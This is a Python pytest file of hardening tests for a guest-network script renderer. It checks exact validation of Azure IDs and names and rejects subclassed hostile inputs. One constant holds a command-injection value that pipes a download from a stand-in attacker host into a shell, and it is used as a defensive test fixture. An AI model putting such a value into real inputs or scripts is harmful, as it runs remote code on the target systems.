"""Hardening (issue 12), pure parts: exact validation of IDs and names (item 6) and exact types
at the guest-script renderer boundary (item 10)."""

from __future__ import annotations

import ipaddress

import pytest

from shared.core import arm_ids
from shared.core.guest import GuestRouteSpec, GuestScriptError, MacAddress, Protocol, VipRoute
from shared.core.guest.render import render
from shared.core.guest.spec import VerifyTarget, check_count_timeout

GUID = "00000000-0000-0000-0000-000000000001"
HOSTILE = "1; curl evil.example | sh #"


# --------------------------------------------------------------------------- item 6

@pytest.mark.parametrize("text", [GUID + "\n", "\n" + GUID, GUID + " ", GUID + "\n\n"])
def test_hardening_subscription_id_is_matched_in_full(text):
    assert arm_ids.is_subscription_id(GUID)
    assert not arm_ids.is_subscription_id(text)


@pytest.mark.parametrize("kind,name", [("vm", "hs-vm1\n"), ("network", "nic1\n"),
                                       ("resource_group", "rg\n"), ("tag", "hairpin\n")])
def test_hardening_names_are_matched_in_full(kind, name):
    assert arm_ids.is_valid_name(name.strip(), kind)
    assert not arm_ids.is_valid_name(name, kind)
    with pytest.raises(arm_ids.InvalidResourceName):
        arm_ids.validate_name(name, kind)


# --------------------------------------------------------------------------- item 10

class HostileInt(int):
    def __format__(self, spec):
        return HOSTILE

    def __str__(self):
        return HOSTILE


class HostileAddress(ipaddress.IPv4Address):
    def __format__(self, spec):
        return HOSTILE

    def __str__(self):
        return HOSTILE


class HostileStr(str):
    def __str__(self):
        return HOSTILE


def spec(**change):
    values = dict(primary_ip="10.0.1.10", secondary_ip="10.0.1.11",
                  secondary_mac="00-0D-3A-12-34-56", gateway="10.0.1.1", prefix_len=24,
                  routes=[VipRoute("10.0.1.100", Protocol.TCP, 1972, 1972)])
    values.update(change)
    return GuestRouteSpec(**values)


@pytest.mark.parametrize("make", [
    lambda: VipRoute("10.0.1.100", Protocol.TCP, HostileInt(1972), 1972),
    lambda: VipRoute("10.0.1.100", Protocol.TCP, 1972, HostileInt(1972)),
    lambda: VipRoute(HostileAddress("10.0.1.100"), Protocol.TCP, 1972, 1972),
    lambda: VerifyTarget("10.0.1.100", HostileInt(1972)),
    lambda: spec(primary_ip=HostileAddress("10.0.1.10")),
    lambda: spec(gateway=HostileAddress("10.0.1.1")),
    lambda: spec(prefix_len=HostileInt(24)),
    lambda: spec(secondary_mac=HostileStr("00-0D-3A-12-34-56")),
    lambda: MacAddress((0, HostileInt(13), 58, 18, 52, 86)),
    lambda: check_count_timeout(HostileInt(20), 2),
    lambda: check_count_timeout(20, HostileInt(2)),
], ids=["frontend-port", "backend-port", "vip", "verify-port", "primary-ip", "gateway",
        "prefix-len", "mac-text", "mac-octet", "count", "timeout"])
def test_hardening_renderer_inputs_must_be_exact_types(make):
    with pytest.raises(GuestScriptError):
        make()


def test_hardening_render_refuses_a_spec_subclass():
    class HostileSpec(GuestRouteSpec):
        __slots__ = ()

        @property
        def vips(self):
            return (HOSTILE,)

    good = spec()
    hostile = HostileSpec(**{f: getattr(good, f) for f in (
        "primary_ip", "secondary_ip", "secondary_mac", "gateway", "prefix_len", "routes")})
    assert HOSTILE not in render(good, "linux", "apply")
    for os_type in ("linux", "windows"):
        with pytest.raises(GuestScriptError):
            render(hostile, os_type, "apply")
        with pytest.raises(GuestScriptError):
            render(hostile, os_type, "cleanup")
